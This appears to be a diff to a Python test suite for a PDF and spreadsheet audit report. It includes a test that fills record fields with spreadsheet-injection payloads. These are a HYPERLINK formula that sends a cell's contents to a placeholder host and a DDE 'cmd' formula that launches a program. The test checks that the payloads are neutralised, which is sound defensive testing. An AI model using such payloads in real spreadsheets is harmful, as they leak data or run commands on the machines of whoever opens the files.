@@ -12,8 +12,8 @@ from html.parser import HTMLParser
 from pathlib import Path
 from typing import Any
 
-import html5lib
-import jsonschema
+import html5lib  # type: ignore[import-untyped]  # it brings no types
+import jsonschema  # type: ignore[import-untyped]  # it brings no types
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -157,14 +157,14 @@ def test_every_section_has_a_bookmark_and_every_page_a_number(reader: PdfReader)
 
 
 def test_fonts_are_embedded(reader: PdfReader) -> None:
-    descriptors = [
-        obj
-        for number in range(1, len(reader.xref[0]) if 0 in reader.xref else 2000)
-        for obj in [reader.get_object(number)]
-        if isinstance(obj, dict) and obj.get("/Type") == "/FontDescriptor"
+    found = [
+        each.get_object()["/FontDescriptor"].keys()
+        for page in reader.pages
+        for font in page["/Resources"]["/Font"].values()  # type: ignore[index]  # pypdf types a value as any object
+        for each in font.get_object().get("/DescendantFonts", [font.get_object()])
     ]
-    assert descriptors
-    assert all({"/FontFile", "/FontFile2", "/FontFile3"} & each.keys() for each in descriptors)
+    assert found
+    assert all({"/FontFile", "/FontFile2", "/FontFile3"} & keys for keys in found)
 
 
 def test_the_pdf_tells_what_an_auditor_asks_for(text: str) -> None:
@@ -267,8 +267,11 @@ def test_a_cell_is_a_formula_or_left_as_it_is(text: str) -> None:
 def test_formulas_in_every_field_of_an_item_reach_no_spreadsheet(record: Record) -> None:
     (first, *rest) = record.snapshot.items
     attack = '=HYPERLINK("http://x.test/?"&A1,"click")'
-    fields = ("channel", "vendor", "destination", "purpose", "baa", "requester", "approver", "ended_because")
-    bad = replace(first, types=("=cmd|' /C calc'!A0",), **dict.fromkeys(fields, attack))
+    bad = replace(
+        first,
+        channel=attack, vendor=attack, destination=attack, purpose=attack, baa=attack, requester=attack,
+        approver=attack, ended_because=attack, types=("=cmd|' /C calc'!A0",),
+    )  # fmt: skip
     made = sample.record(replace(record.snapshot, items=(bad, *rest)))
     made = replace(made, decisions=tuple(replace(each, reason="\t=1+1", effect="@SUM(1)") for each in made.decisions))
     assert not [cell for row in rows(made) for cell in row.values() if FORMULA.match(cell)]
